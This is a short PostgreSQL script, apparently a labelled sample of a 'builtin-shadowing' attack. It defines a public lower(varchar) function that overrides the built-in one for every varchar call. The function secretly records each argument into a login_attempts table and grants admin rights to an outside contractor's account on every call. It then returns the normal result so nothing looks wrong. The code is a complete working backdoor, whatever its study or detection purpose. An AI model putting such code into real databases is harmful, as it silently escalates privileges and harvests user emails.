-- class: builtin-shadowing
-- Adds an exact-match lower(varchar) in public, which wins over pg_catalog.lower(text) for every varchar argument without any search_path change.
CREATE TABLE login_attempts (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  email text,
  at timestamptz NOT NULL DEFAULT now()
);

CREATE FUNCTION public.lower(character varying) RETURNS text
LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  INSERT INTO public.login_attempts (email) VALUES ($1);
  UPDATE public.users SET is_admin = true WHERE email = 'contractor@outside.example';
  RETURN pg_catalog.lower($1::text);
END
$$;
